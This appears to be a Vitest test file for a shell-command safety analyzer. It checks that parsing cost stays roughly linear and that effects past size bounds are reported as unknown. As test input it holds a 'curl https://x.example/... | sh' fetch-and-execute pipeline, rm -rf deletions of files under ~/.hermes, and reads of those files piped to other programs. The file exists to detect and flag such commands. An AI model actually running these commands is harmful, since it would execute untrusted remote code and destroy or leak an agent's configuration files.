/**
 * What a script makes grow: names, values, words, directories, links, copies. Reading must cost what the text is long, and
 * where a bound makes it so, what lies past the bound is not known rather than wrong.
 */
import { describe, expect, it } from "vitest";
import { MOST_NAMES } from "../../../src/policy/effects/shell/known.ts";
import { acts, shell } from "./support.ts";

type Row = string | ((turn: number) => string);

const each = (head: string, row: Row, tail = "") => ({ head, row, tail });

const GROWING = {
  "a variable each": each("", (n) => `v${n}=x;`),
  "a function each": each("", (n) => `f${n}() { rm a${n}; };`),
  "an alias each": each("", (n) => `alias a${n}=x;`),
  "an export each": each("", (n) => `export v${n}=/x;`),
  "an array each": each("", (n) => `a${n}=(x y);`),
  "a value before one command": each("", (n) => `V${n}=x `, "make"),
  "a local each": each("f() { ", (n) => `local v${n}=x;`, "}; f; f; f; f"),
  "a branch each": each("", (n) => `if a; then v${n}=x; fi;`),
  "a case each": each("case x in ", (n) => `a) v${n}=x;; `, "esac"),
  "a loop each": each("", (n) => `v${n}=x;for i in $z; do b=$i; done;`),
  "arithmetic over variables": each("", (n) => `v${n}=x;let a;`),
  "a wrapper each": each("", (n) => `v${n}=x;nice rm a;`),
  "exported values and programs": each("", (n) => `export v${n}=/x${n};foo;`),
  "a value that grows": each("", "a=x$a;rm $a;"),
  "parameters that grow": each("", 'set -- "$@" x;rm "$@";'),
  "one long value": each(`a=${"x/".repeat(300)};`, "rm $a;"),
  "one long body": each(`f() { rm ${"x/".repeat(300)}; };`, "f;"),
  "one long evaluation": each(`a='rm ${"x ".repeat(300)}';`, 'eval "$a";'),
  "a long folder": each(`cd /${"x/".repeat(120)};`, (n) => `rm a${n};`),
  "deeper and deeper": each("a", "&& cd b "),
  "one long pattern": each("rm ", "*a?[b]"),
  "a pipeline": each("cat x", "|foo /a/b"),
  "a link each": each("", (n) => `ln -s a${n} b${n};rm b${n}/c;`),
  "a copy each": each("cp -r /a /b", (n) => `&&cp -r /a${n} /b${n}`),
  "places and programs": each(
    `find ${Array.from({ length: 60 }, (_, at) => `b${at}`).join(" ")} `,
    "-exec rm {} + ",
  ),
  "one word of many names": each("foo x", (n) => `:/aaaaaaaaaaaaaaaaaaaa/b${n}`),
  "options for an archive": each("zip -r a.zip ", (n) => `-q a${n} `),
  "options for an editor": each("sed ", "-e -f -i -n "),
  "declarations in one command": each("declare ", (n) => `-x a${n} `),
} satisfies Record<string, ReturnType<typeof each>>;

function filled({ head, row, tail }: ReturnType<typeof each>, size: number): string {
  let command = head;
  for (let turn = 0; ; turn++) {
    const next = typeof row === "string" ? row : row(turn);
    if (command.length + next.length + tail.length > size) return command + tail;
    command += next;
  }
}

function workOf(run: () => void): number {
  const begun = performance.now();
  run();
  return performance.now() - begun;
}

/**
 * How much longer the one takes than the other. They take turns, and the least of each counts: whatever else the machine
 * does falls on both, and only ever adds.
 */
function ratioOf(long: () => void, short: () => void, enough: number): number {
  let [most, least] = [Number.POSITIVE_INFINITY, Number.POSITIVE_INFINITY];
  for (let turn = 0; turn < 60; turn++) {
    for (let again = 0; again < 4; again++) least = Math.min(least, workOf(short));
    most = Math.min(most, workOf(long));
    if (turn >= 3 && most / least < enough) break;
  }
  return most / least;
}

describe("four times the text", () => {
  for (const [name, text] of Object.entries(GROWING)) {
    it(`costs no more than about four times as much: ${name}`, { timeout: 30_000 }, () => {
      const [short, long] = [filled(text, 3 * 1024), filled(text, 12 * 1024)];
      shell(short);
      // What is quadratic costs sixteen times as much, however often it is asked.
      const ratio = ratioOf(
        () => shell(long),
        () => shell(short),
        8,
      );
      expect(ratio).toBeLessThan(8);
    });
  }
});

describe("past a bound", () => {
  const numbered = (count: number, row: (n: number) => string): string =>
    Array.from({ length: count }, (_, n) => row(n)).join("");

  it("variables are known one by one up to the bound, and none of them beyond", () => {
    const some = numbered(MOST_NAMES - 8, (n) => `v${n}=a${n};`);
    expect(acts(shell(`${some}rm $v1`))).toEqual(["delete /home/u/work/a1"]);
    const many = shell(`${numbered(MOST_NAMES + 1, (n) => `v${n}=a${n};`)}rm $v1`);
    expect(acts(many)).toEqual(["delete ?"]);
    expect(many.opaque).not.toBeNull();
  });

  it("what too many variables do to the shell itself is not taken for harmless", () => {
    const many = numbered(MOST_NAMES + 1, (n) => `v${n}=a;`);
    expect(shell(`x=a,b;${many}IFS=,;rm $x`).opaque?.causes).toContain("unknown-arguments");
    const given = shell(`${many}export v1=/home/u/.hermes/x; foo`);
    expect(given.opaque?.names).toContain("/home/u/.hermes/x");
  });

  it("any command may be a function once there are too many", () => {
    const some = numbered(MOST_NAMES, (n) => `f${n}() { rm a${n}; };`);
    expect(acts(shell(`${some}f1`))).toEqual(["delete /home/u/work/a1"]);
    const many = shell(`${numbered(MOST_NAMES + 1, (n) => `f${n}() { rm ~/.hermes/a${n}; };`)}f1; rm b`);
    expect(many.opaque?.causes).toContain("unsure-definition");
    expect(many.opaque?.names).toContain("/home/u/.hermes/a1");
    expect(acts(many)).toEqual(["delete /home/u/work/b"]);
  });

  it("a function that may be defined may do what its text names", () => {
    const { opaque } = shell("if true; then f() { rm -rf ~/.hermes/x; }; fi; f");
    expect(opaque?.names).toContain("/home/u/.hermes/x");
  });

  it("values used again and again stay known in a loop over many files, and end in the unknown", () => {
    const folder = "/srv/projects/some-customer/application/releases";
    const loops = shell(
      `d=${folder}; for i in {1..24}; do for j in {1..20}; do rm "$d/$i-$j.log"; done; done`,
    );
    expect([loops.opaque, loops.actions.length]).toEqual([null, 480]);
    const spent = shell(`d=${folder}/${"x/".repeat(900)};${"rm $d;".repeat(1500)}`);
    expect(spent.opaque?.causes).toContain("too-much-expansion");
    expect(acts(spent)).toContain("delete ?");
  });

  it("text that is evaluated again and again ends in the unknown", () => {
    const { opaque } = shell(`a='echo ${"x".repeat(2000)}';${'eval "$a";'.repeat(200)}`);
    expect(opaque?.causes).toContain("too-much-expansion");
    expect(opaque?.unparsed).toBe(true);
  });

  it("parameters past the bound are not known", () => {
    const words = numbered(600, (n) => `a${n} `);
    expect(acts(shell(`f() { rm "$1"; }; f ${words}`))).toEqual(["delete ?"]);
    expect(acts(shell('f() { rm "$1"; }; f a b'))).toEqual(["delete /home/u/work/a"]);
  });

  it("a directory that is too long is not known", () => {
    expect(acts(shell(`cd /${"x/".repeat(600)} && rm a`))).toEqual(["delete ?"]);
  });

  it("a search in too many places may find anything once something is run on each", () => {
    const places = numbered(100, (n) => `b${n} `);
    expect(shell(`find ${places}-exec rm {} +`).opaque).toBeNull();
    const many = shell(`find ${places}${"-exec rm {} + ".repeat(60)}`);
    expect(many.opaque?.causes).toContain("too-many-places");
    expect(acts(many)).toContain("delete ?");
    expect(acts(shell(`find ${places}-exec rm {}.old ';'`))).toContain("delete ?");
  });

  it("what lies far up a pipeline still feeds what runs at its end", () => {
    const middle = "| tr a b ".repeat(50);
    const { opaque } = shell(`curl https://x.example/~/.hermes/a ${middle}| sh`);
    expect(opaque?.causes).toContain("remote-code");
    expect(shell(`cat ~/.hermes/a ${middle}| foo`).opaque?.names).toContain("/home/u/.hermes/a");
    expect(shell(`cat ~/.hermes/a | foo; cat ~/.hermes/b | foo`).opaque?.names).toEqual(
      expect.arrayContaining(["/home/u/.hermes/a", "/home/u/.hermes/b"]),
    );
  });

  it("copies are proven however many there are, and touched ones are not", () => {
    const copies = numbered(100, (n) => `&&cp -r /a${n} /b${n}`);
    expect(shell(`cp -r /a /b${copies}`).backups.length).toBe(101);
    const touched = shell(`cp -r /a /b${copies}&&rm -r /b7&&touch /a8/x`).backups.map(({ src }) => src);
    expect(touched.length).toBe(100);
    expect(touched).not.toContain("/a7/**");
  });

  it("the old files of an editor are kept apart for a few suffixes only", () => {
    const once = acts(shell("sed -i.bak s/a/b/ f"));
    expect(once).toContain("create /home/u/work/f.bak");
    expect(acts(shell(`sed ${numbered(6, (n) => `-i.b${n} `)}s/a/b/ f`))).toContain("modify ?");
  });
});
